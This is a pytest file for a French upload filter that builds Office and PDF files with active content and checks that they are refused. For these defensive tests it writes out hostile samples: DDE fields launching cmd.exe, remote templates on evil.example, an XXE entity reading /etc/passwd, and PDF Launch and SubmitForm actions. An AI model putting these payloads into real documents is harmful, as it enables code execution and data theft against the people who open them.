"""Active content in Office documents and PDFs is found by parsing their structure, whatever the
quoting, the case or the escaping, and refused with a French message naming what was found; clean
documents of each kind pass. Every document here is built by the test that uses it."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from applications import active_content
from applications.active_content import office as office_rules
from applications.active_content import pdf as pdf_rules
from applications.demo_stages import assemble_pdf
from applications.filecheck import check_upload
from applications.models import Attachment
from tests.applications.carrier_support import carrier_with_draft

MAX = 10 * 1024 * 1024
ACCEPTED = ["pdf", "docx", "xlsx", "odt", "ods"]


def upload(name: str, content: bytes):
    return check_upload(SimpleUploadedFile(name, content), accepted_types=ACCEPTED, max_size=MAX)


def refused(name: str, content: bytes) -> ValidationError:
    with translation.override("fr"), pytest.raises(ValidationError) as caught:
        upload(name, content)
    return caught.value


def assert_refused(name: str, content: bytes, code: str, *words: str) -> None:
    error = refused(name, content)
    message = error.messages[0]
    assert error.code == code, (error.code, message)
    for word in words:
        assert word in message, (word, message)
    assert message[0].isupper() and message.endswith(".")


def zip_of(entries: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries.items()):
            data = data.encode() if isinstance(data, str) else data
            stored = index == 0 and name == "mimetype"
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# OOXML
# --------------------------------------------------------------------------------------------
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def content_types(*overrides: tuple[str, str]) -> str:
    items = "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>' + items + "</Types>"
    )


def relationships(*rels: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">' + "".join(rels) + "</Relationships>"


def word_body(paragraphs: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{paragraphs}</w:body></w:document>'


PLAIN_PARAGRAPH = "<w:p><w:r><w:t>Rapport d'activité 2025</w:t></w:r></w:p>"
MAIN_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx(
    *, body: str = PLAIN_PARAGRAPH, rels: tuple[str, ...] = (), overrides: tuple = (), extra: dict | None = None
) -> bytes:
    entries = {
        "[Content_Types].xml": content_types(("/word/document.xml", MAIN_DOCUMENT), *overrides),
        "_rels/.rels": relationships(f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": word_body(body),
        "word/_rels/document.xml.rels": relationships(*rels),
    }
    entries.update(extra or {})
    return zip_of(entries)


def xlsx(*, sheet: str = "<c r='A1' t='inlineStr'><is><t>Poste</t></is></c>", extra: dict | None = None) -> bytes:
    entries = {
        "[Content_Types].xml": content_types(
            ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
        ),
        "_rels/.rels": relationships(f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.xml"/>'),
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><sheetData><row r="1">{sheet}</row></sheetData></worksheet>',
    }
    entries.update(extra or {})
    return zip_of(entries)


def test_clean_office_open_xml_documents_pass():
    hyperlink = (
        f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="https://www.legifrance.gouv.fr/" TargetMode="External"/>'
    )
    assert upload("rapport.docx", docx(rels=(hyperlink,))).kind == "docx"
    formulas = "<c r='A1'><f>SUM(B1:B2)</f></c><c r='A2'><f>CONCAT(\"a|b\",'Feuille|2'!A1)</f></c>"
    assert upload("budget.xlsx", xlsx(sheet=formulas)).kind == "xlsx"


def test_a_workbook_saved_by_openpyxl_passes():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Coordination", 45000, "=B1*2"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert upload("budget.xlsx", buffer.getvalue()).kind == "xlsx"


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "content",
    [
        docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        docx(extra={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}),
        docx(overrides=(("/word/other.xml", MACRO_TYPE),)),
        docx(overrides=(("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),)),
        docx(rels=("<Relationship Id='rId7' Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='vbaProject.bin'/>",)),
    ],
    ids=["vbaProject part", "upper-case part name", "macro-enabled content type", "vbaProject content type", "vbaProject relationship"],
)  # fmt: skip
def test_word_macros_are_refused(content):
    assert_refused(
        "rapport.docx", content, "macros", "Ce document Word contient des macros : il ne peut pas être déposé."
    )


def test_excel_4_macro_sheets_are_refused():
    content = xlsx(extra={"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{S}"/>'})
    assert_refused("budget.xlsx", content, "macros", "Ce classeur Excel contient des macros")


@pytest.mark.parametrize(
    "content",
    [
        docx(
            extra={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"}
        ),
        docx(overrides=(("/word/ctl.xml", "application/vnd.ms-office.activeX+xml"),)),
        docx(rels=(f"<Relationship Id='rId8' Type='{R}/control' Target='ctl.xml'/>",)),
    ],
    ids=["activeX part", "activeX content type", "control relationship"],
)
def test_activex_controls_are_refused(content):
    assert_refused("rapport.docx", content, "office_activex", "contient des contrôles ActiveX")


@pytest.mark.parametrize(
    "content",
    [
        docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        docx(extra={"word/embeddings/Package.bin": b"\xd0\xcf\x11\xe0"}),
        docx(rels=(f"<Relationship Id='rId3' Type='{R}/oleObject' Target='embeddings/obj.dat'/>",)),
        docx(
            rels=(f"<Relationship Id='rId3' Type='{R}/oleObject' Target='file:///C:/evil.xls' TargetMode='External'/>",)
        ),
    ],
    ids=["oleObject part", "embedded .bin", "internal oleObject relationship", "linked OLE object"],
)
def test_ole_objects_are_refused(content):
    assert_refused("rapport.docx", content, "office_ole", "objet incorporé ou lié (OLE)")


def settings_rels(relationship: str) -> bytes:
    return docx(extra={"word/_rels/settings.xml.rels": relationships(relationship)})


@pytest.mark.parametrize(
    "relationship",
    [
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        # The byte search of the first round looked for TargetMode="External" with double quotes.
        f"<Relationship Id='rId1' Type='{R}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>",
        f'<Relationship TargetMode = "External"\n Target="\\\\evil\\share\\t.dotm" Type="{R}/attachedTemplate" Id="rId1"/>',
        f'<Relationship Id="rId1" Type="{R}/attached&#84;emplate" Target="https://evil.example/t.dotm" TargetMode="Ext&#101;rnal"/>',
        # No TargetMode, but a URL as target: Word fetches it all the same.
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.example/t.dotm"/>',
    ],
    ids=["double quotes", "single quotes", "UNC path, attributes reordered", "character references", "no TargetMode"],
)
def test_a_remote_template_is_refused_however_it_is_quoted(relationship):
    assert_refused(
        "rapport.docx",
        settings_rels(relationship),
        "office_remote_template",
        "Ce document Word fait appel à un modèle distant",
    )


@pytest.mark.parametrize(
    "target",
    [
        "file://evil.example/t.dotm",
        "file:///%5C%5Cevil.example%5Cshare%5Ct.dotm",
        "file:\\\\evil.example\\t.dotm",
        "//evil.example/share/t.dotm",
        "webdav://evil.example/t.dotm",
    ],
)
def test_a_template_on_another_machine_is_refused(target):
    relationship = f"<Relationship Id='rId1' Type='{R}/attachedTemplate' Target='{target}' TargetMode='External'/>"
    assert_refused("rapport.docx", settings_rels(relationship), "office_remote_template", "modèle distant")


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\Marie\\AppData\\Roaming\\Microsoft\\Templates\\Association.dotm",
        "file:///C:/Modeles/Lettre.dotx",
        "Normal.dotm",
    ],
)
def test_a_template_on_the_authors_own_disk_is_accepted(target):
    """What Word writes for every document based on an office's template: nothing is fetched."""
    relationship = f"<Relationship Id='rId1' Type='{R}/attachedTemplate' Target='{target}' TargetMode='External'/>"
    assert upload("rapport.docx", settings_rels(relationship)).kind == "docx"


@pytest.mark.parametrize(
    "relationship, shown",
    [
        (f"<Relationship Id='rId1' Type='{R}/frame' Target='https://evil.example/frame.html' TargetMode='External'/>", "frame"),
        (f"<Relationship Id='rId1' Type='{R}/subDocument' Target='\\\\evil\\s\\part.docx' TargetMode='External'/>", "subDocument"),
        (f"<Relationship Id='rId1' Type='{R}/image' Target='https://tracker.example/pixel.png' TargetMode='External'/>", "image"),
    ],
    ids=["frame", "sub-document", "linked image"],
)  # fmt: skip
def test_other_external_relationships_are_refused(relationship, shown):
    content = docx(rels=(relationship,))
    assert_refused("rapport.docx", content, "office_external_content", "à l'ouverture", f"({shown})")


def external_link_part(body: str) -> dict:
    return {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}">{body}</externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
            f"<Relationship Id='rId1' Type='{R}/externalLinkPath' Target='file:///\\\\srv\\budget.xlsx' TargetMode='External'/>"
        ),
    }


def test_external_links_of_a_workbook_are_refused():
    content = xlsx(
        extra=external_link_part(
            '<externalBook r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook>'
        )
    )
    assert_refused("budget.xlsx", content, "office_external_link", "Ce classeur Excel est lié à d'autres fichiers")
    only_the_relationship = xlsx(
        extra={
            "xl/_rels/workbook.xml.rels": relationships(
                f"<Relationship Id='rId2' Type='{R}/externalLinkPath' Target='budget.xlsx' TargetMode='External'/>"
            )
        }
    )
    assert_refused("budget.xlsx", only_the_relationship, "office_external_link", "liaisons externes")


def test_dde_links_of_a_workbook_are_refused():
    content = xlsx(extra=external_link_part('<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink>'))
    assert_refused("budget.xlsx", content, "office_dde", "Ce classeur Excel contient des champs ou des liaisons DDE")


def test_a_dde_formula_in_a_cell_is_refused():
    content = xlsx(sheet="<c r='A1'><f>cmd|' /C calc'!A0</f></c>")
    assert_refused("budget.xlsx", content, "office_dde", "DDE")


def test_a_dde_formula_in_a_defined_name_is_refused():
    workbook = f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="x">cmd|\'/c calc\'!A0</definedName></definedNames></workbook>'
    assert_refused("budget.xlsx", xlsx(extra={"xl/workbook.xml": workbook}), "office_dde", "DDE")


def chart_workbook(extra: dict | None = None) -> dict:
    return {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(extra=extra)}


def test_documents_embedded_in_a_document_are_judged_like_it():
    assert upload("rapport.docx", docx(extra=chart_workbook())).kind == "docx"  # every chart in Word has one
    with_macros = docx(extra=chart_workbook({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    assert_refused("rapport.docx", with_macros, "macros", "Ce document Word contient des macros")
    with_dde = docx(extra={"word/embeddings/feuille.bin.zip": xlsx(sheet="<c r='A1'><f>cmd|' /C calc'!A0</f></c>")})
    assert_refused("rapport.docx", with_dde, "office_dde", "DDE")
    in_an_odt = odf(ODT, extra={"Object 2": docx(body=field([" DDEAUTO cmd /c calc"]))})
    assert_refused("rapport.odt", in_an_odt, "office_dde", "Ce document texte OpenDocument")


def test_documents_nested_too_deep_are_refused_as_too_complex():
    nested = docx()
    for level in range(office_rules.MAX_PACKAGE_NESTING + 1):
        nested = docx(extra={f"word/embeddings/niveau{level}.docx": nested})
    assert_refused("rapport.docx", nested, "too_complex", "trop complexe")


@pytest.mark.parametrize("target", ["afchunk.rtf", "chunk.MHT", "page.html"])
def test_an_rtf_or_html_chunk_imported_by_word_is_refused(target):
    relationship = f"<Relationship Id='rId5' Type='{R}/aFChunk' Target='{target}'/>"
    content = docx(rels=(relationship,), extra={f"word/{target}": "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd}}}"})
    assert_refused("rapport.docx", content, "office_imported_document", "dans un autre format (RTF ou HTML)")


def field(instruction_runs: list[str]) -> str:
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{text}</w:instrText></w:r>" for text in instruction_runs)
    return (
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>" + runs + "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
        "<w:r><w:t>résultat</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    )


# { { QUOTE 68 68 69 65 85 84 79 } c:\\windows\\system32\\cmd.exe "/k calc" }: the outer field's own code
# starts with a nested field whose result is « DDEAUTO ».
SPELLED_OUT_DDE = (
    "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
    "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
    '<w:r><w:instrText> c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
    "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
)


@pytest.mark.parametrize(
    "content",
    [
        docx(body="<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '/></w:p>"),
        docx(body='<w:p><w:fldSimple w:instr="dde cmd &quot;/c calc&quot; x"/></w:p>'),
        docx(body=field([' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'])),
        docx(body=field([" DD", "EAUTO c:\\windows\\system32\\cmd.exe", ' "/k calc"'])),  # split across runs
        docx(extra={"word/header1.xml": f"<w:hdr xmlns:w='{W}'>{field(['DDE cmd /c calc'])}</w:hdr>"}),
        docx(body=SPELLED_OUT_DDE),
    ],
    ids=[
        "fldSimple DDEAUTO",
        "fldSimple lower-case dde",
        "complex field",
        "instruction split across runs",
        "in a header",
        "spelled out by a nested QUOTE field",
    ],
)
def test_dde_fields_are_refused(content):
    assert_refused("rapport.docx", content, "office_dde", "Ce document Word contient des champs ou des liaisons DDE")


def test_ordinary_fields_pass():
    content = docx(
        body=field([" PAGE "])
        + field([" QUOTE 65 115 115 111 "])  # « Asso »
        + "<w:p><w:fldSimple w:instr=' DATE \\@ &quot;d MMMM yyyy&quot; '/></w:p>"
    )
    assert upload("rapport.docx", content).kind == "docx"


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
)


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["entity expansion", "external entity"])
def test_xml_with_a_dtd_is_refused_as_damaged(document):
    content = zip_of({"[Content_Types].xml": content_types(), "word/document.xml": document})
    assert_refused("rapport.docx", content, "damaged", "endommagé")


def test_a_bare_doctype_an_empty_part_and_an_svg_image_pass():
    """What real files hold: old OpenOffice manifests name their DTD (never read), LibreOffice
    writes an empty accelerator configuration, Illustrator's SVG logos carry a DOCTYPE."""
    old_manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">'
        f'<manifest:manifest xmlns:manifest="{MANIFEST_NS}"/>'
    )
    content = odf(ODT, extra={"META-INF/manifest.xml": old_manifest, "Configurations2/accelerator/current.xml": ""})
    assert upload("rapport.odt", content).kind == "odt"
    svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>'
    logo = docx(overrides=(("/word/media/logo.svg", "image/svg+xml"),), extra={"word/media/logo.svg": svg})
    assert upload("rapport.docx", logo).kind == "docx"


def test_xml_nested_too_deep_is_refused_as_too_complex():
    deep = "<w:p>" * (office_rules.MAX_XML_DEPTH + 1) + "</w:p>" * (office_rules.MAX_XML_DEPTH + 1)
    assert_refused("rapport.docx", docx(body=deep), "too_complex", "trop complexe")


def test_a_part_with_too_many_elements_is_refused_as_too_complex(monkeypatch):
    monkeypatch.setattr(office_rules, "MAX_XML_ELEMENTS", 500)
    cells = "".join(f"<c r='A{row}'><v>{row}</v></c>" for row in range(1, 300))
    assert_refused("budget.xlsx", xlsx(sheet=cells), "too_complex", "trop complexe")


# --------------------------------------------------------------------------------------------
# OpenDocument
# --------------------------------------------------------------------------------------------
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"'
)
MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def manifest(*entries: tuple[str, str]) -> str:
    rows = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>' for path, kind in entries
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{MANIFEST_NS}">{rows}</manifest:manifest>'


def odf(mimetype: str = ODT, *, body: str = "", scripts: str = "<office:scripts/>", extra: dict | None = None,
        manifest_entries: tuple = ()) -> bytes:  # fmt: skip
    office_body = (
        f"<office:text>{body}</office:text>" if mimetype == ODT else f"<office:spreadsheet>{body}</office:spreadsheet>"
    )
    entries = {
        "mimetype": mimetype,
        "content.xml": f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NS} office:version="1.3">'
        f"{scripts}<office:body>{office_body}</office:body></office:document-content>",
        "styles.xml": f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {NS}/>',
        "META-INF/manifest.xml": manifest(("/", mimetype), ("content.xml", "text/xml"), *manifest_entries),
    }
    entries.update(extra or {})
    return zip_of(entries)


def test_clean_opendocument_files_pass():
    text = (
        '<text:p>Voir <text:a xlink:type="simple" xlink:href="https://www.service-public.fr/">le site</text:a>.</text:p>'
        '<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame>'
    )
    chart = {"Object 1/content.xml": f'<?xml version="1.0"?><office:document-content {NS}/>'}
    assert upload("rapport.odt", odf(ODT, body=text, extra=chart)).kind == "odt"
    cells = (
        '<table:table table:name="Budget"><table:table-row>'
        '<table:table-cell table:formula="of:=SUM([.B1:.B2])"/>'
        '<table:table-cell table:formula="of:=CONCATENATE(&quot;DDE(&quot;;[.A1])"/>'
        "</table:table-row></table:table>"
    )
    assert upload("budget.ods", odf(ODS, body=cells)).kind == "ods"


@pytest.mark.parametrize(
    "extra, entries",
    [
        ({"Basic/Standard/Module1.xml": "<m/>"}, ()),
        ({"Scripts/python/run.py": "import os"}, ()),
        ({"scripts/javascript/run.js": "x()"}, ()),
        ({"Scripts/beanshell/run.bsh": "x();"}, ()),
        ({}, (("Basic/", "application/binary"),)),
        ({"./Basic/Standard/Module1.xml": "<m/>"}, (("./Basic/Standard/", "text/xml"),)),
    ],
    ids=["Basic", "Python", "JavaScript, lower-case folder", "BeanShell", "listed only in the manifest", "dotted path"],
)
def test_opendocument_macros_in_any_language_are_refused(extra, entries):
    content = odf(ODT, extra=extra, manifest_entries=entries)
    assert_refused("rapport.odt", content, "macros", "Ce document texte OpenDocument contient des macros")


@pytest.mark.parametrize(
    "scripts, body",
    [
        (
            '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
            "</office:event-listeners></office:scripts>",
            "",
        ),
        ('<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>', ""),
        ("<office:scripts/>", '<text:p><text:a xlink:href=" VND.SUN.STAR.SCRIPT:Standard.M.Main?language=Basic">clic</text:a></text:p>'),
        ("<office:scripts/>", '<text:p><text:a xlink:href="macro:///Standard.M.Main">clic</text:a></text:p>'),
    ],
    ids=["event listener on load", "embedded script", "hyperlink to a macro", "macro: URL"],
)  # fmt: skip
def test_opendocument_scripts_are_refused(scripts, body):
    assert_refused(
        "rapport.odt", odf(ODT, scripts=scripts, body=body), "office_scripts", "lance des scripts ou des macros"
    )


def test_a_script_in_styles_is_refused():
    styles = (
        f'<?xml version="1.0"?><office:document-styles {NS}><office:master-styles>'
        '<script:event-listener script:event-name="dom:click" xlink:href="vnd.sun.star.script:x"/>'
        "</office:master-styles></office:document-styles>"
    )
    assert_refused("rapport.odt", odf(ODT, extra={"styles.xml": styles}), "office_scripts", "scripts")


@pytest.mark.parametrize(
    "body, entries",
    [
        ('<draw:frame><draw:object xlink:href="https://evil.example/x.ods"/></draw:frame>', ()),
        ('<draw:frame><draw:object xlink:href="../../partage/x.ods"/></draw:frame>', ()),
        ('<draw:frame><draw:object xlink:href="./Object 1/../../x.ods"/></draw:frame>', ()),
        ('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', ()),
        ("", (("Object 1", "application/vnd.sun.star.oleobject"),)),
    ],
    ids=[
        "object on a server",
        "object outside the package",
        "object escaping with ./..",
        "OLE object",
        "OLE object in the manifest",
    ],
)
def test_opendocument_ole_and_external_objects_are_refused(body, entries):
    assert_refused("rapport.odt", odf(ODT, body=body, manifest_entries=entries), "office_ole", "(OLE)")


@pytest.mark.parametrize(
    "mimetype, body, label",
    [
        (ODT, '<text:variable-decls/><text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>', "Ce document texte OpenDocument"),
        (ODS, '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link></table:dde-links>', "Ce classeur OpenDocument"),
        (ODS, '<table:table><table:table-row><table:table-cell table:formula="of:=dde(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"/></table:table-row></table:table>', "Ce classeur OpenDocument"),
    ],
    ids=["text DDE connection", "spreadsheet DDE link", "DDE() formula"],
)  # fmt: skip
def test_opendocument_dde_is_refused(mimetype, body, label):
    name = "rapport.odt" if mimetype == ODT else "budget.ods"
    assert_refused(name, odf(mimetype, body=body), "office_dde", f"{label} contient des champs ou des liaisons DDE")


def test_opendocument_links_to_other_files_are_refused():
    linked_sheet = (
        '<table:table><table:table-source xlink:href="file:///srv/budget.ods" table:table-name="A"/></table:table>'
    )
    assert_refused("budget.ods", odf(ODS, body=linked_sheet), "office_external_link", "liaisons externes")
    image = '<text:p><draw:frame><draw:image xlink:href="https://tracker.example/pixel.png"/></draw:frame></text:p>'
    assert_refused("rapport.odt", odf(ODT, body=image), "office_external_content", "(draw:image)")
    meta = f'<?xml version="1.0"?><office:document-meta {NS}><office:meta><meta:template xlink:href="https://evil.example/t.ott"/></office:meta></office:document-meta>'
    assert_refused("rapport.odt", odf(ODT, extra={"meta.xml": meta}), "office_remote_template", "modèle distant")


def test_the_check_runs_before_anything_is_stored():
    """``check_upload`` is what the upload view calls before storing (see test_uploads for the screen):
    here the pure function refuses on an archive, without Django's upload machinery."""
    archive = zipfile.ZipFile(io.BytesIO(docx(extra={"word/vbaProject.bin": b"x"})))
    with pytest.raises(ValidationError) as caught:
        active_content.check_office_document(archive)
    assert caught.value.code == "macros"


# --------------------------------------------------------------------------------------------
# PDF
# --------------------------------------------------------------------------------------------
def pdf_value(value):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): pdf_value(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_value(item) for item in value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, str) and value.startswith("/"):
        return NameObject(value)
    if isinstance(value, str):
        return TextStringObject(value)
    return value


def written(writer) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def pdf_opening_with(action: dict) -> bytes:
    from pypdf.generic import NameObject

    writer = pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(pdf_value(action))
    return written(writer)


def test_a_plain_pdf_with_an_ordinary_hyperlink_passes():
    from pypdf.annotations import Link

    writer = pdf_writer()
    writer.add_annotation(0, Link(rect=(50, 700, 300, 720), url="https://www.legifrance.gouv.fr/"))
    writer.add_annotation(0, Link(rect=(50, 650, 300, 670), target_page_index=0))
    content = written(writer)
    assert b"/URI" in content
    assert upload("statuts.pdf", content).kind == "pdf"


@pytest.mark.parametrize(
    "action", [{"/S": "/Hide", "/T": "champ"}, {"/S": "/Named", "/N": "/Print"}], ids=["Hide", "Named"]
)
def test_actions_that_stay_inside_the_document_pass(action):
    assert upload("statuts.pdf", pdf_opening_with(action)).kind == "pdf"


def test_pdf_javascript_is_refused():
    from pypdf.actions import JavaScript

    writer = pdf_writer()
    writer.add_open_action(JavaScript("app.alert(1)"))
    assert_refused("statuts.pdf", written(writer), "pdf_javascript", "Ce PDF contient des scripts (JavaScript)")


@pytest.mark.parametrize(
    "action, code, words",
    [
        ({"/S": "/Launch", "/F": "cmd.exe"}, "pdf_launch", "Ce PDF contient une action qui ouvre un programme (Launch)"),
        ({"/S": "/GoToR", "/F": "\\\\evil\\share\\x.pdf", "/D": [0, "/Fit"]}, "pdf_remote_file", "ouvre un autre fichier (GoToR)"),
        ({"/S": "/GoToE", "/T": {"/R": "/C", "/N": "x"}}, "pdf_remote_file", "(GoToE)"),
        ({"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/"}}, "pdf_submit_form", "envoie ses données sur internet (SubmitForm)"),
        ({"/S": "/ImportData", "/F": "data.fdf"}, "pdf_import_data", "importe des données d'un autre fichier (ImportData)"),
        ({"/S": "/RichMediaExecute", "/TA": 1}, "pdf_multimedia", "contenu multimédia actif (RichMedia)"),
        ({"/S": "/Rendition", "/OP": 0}, "pdf_multimedia", "(Rendition)"),
        ({"/S": "/Sound", "/Sound": 1}, "pdf_multimedia", "(Sound)"),
        ({"/S": "/Movie", "/T": "film"}, "pdf_multimedia", "(Movie)"),
        ({"/S": "/URI", "/URI": "https://evil.example/"}, "pdf_uri_action", "ouvre de lui-même une adresse internet"),
        ({"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": {"/S": "/URI", "/URI": "https://evil.example/"}}, "pdf_uri_action", "(URI)"),
        ({"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": [{"/S": "/Named", "/N": "/Print"}, {"/S": "/Launch", "/F": "cmd.exe"}]}, "pdf_launch", "(Launch)"),
    ],
    ids=["Launch", "GoToR", "GoToE", "SubmitForm", "ImportData", "RichMedia", "Rendition", "Sound", "Movie", "URI on opening", "URI chained after GoTo", "Launch chained"],
)  # fmt: skip
def test_every_pdf_action_type_is_refused_with_its_name(action, code, words):
    assert_refused("statuts.pdf", pdf_opening_with(action), code, words, "Imprimez le document dans un nouveau PDF")


def test_a_uri_fired_by_a_trigger_is_refused_but_not_when_clicked():
    from pypdf.annotations import Link
    from pypdf.generic import NameObject

    hovered = pdf_writer()
    link = Link(rect=(50, 700, 300, 720), url="https://www.legifrance.gouv.fr/")
    link[NameObject("/AA")] = pdf_value({"/E": {"/S": "/URI", "/URI": "https://evil.example/"}})  # mouse enters
    hovered.add_annotation(0, link)
    assert_refused("statuts.pdf", written(hovered), "pdf_uri_action", "au passage de la souris")

